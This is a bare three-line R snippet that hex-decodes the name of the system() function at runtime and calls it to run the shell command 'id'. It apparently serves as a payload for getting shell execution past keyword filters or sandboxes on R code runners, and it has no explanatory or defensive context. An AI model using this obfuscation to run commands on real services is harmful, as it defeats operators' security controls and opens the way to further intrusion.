h <- "73797374656d"
f <- rawToChar(as.raw(strtoi(substring(h, seq(1, 11, 2), seq(2, 12, 2)), 16L)))
do.call(f, list("id"))
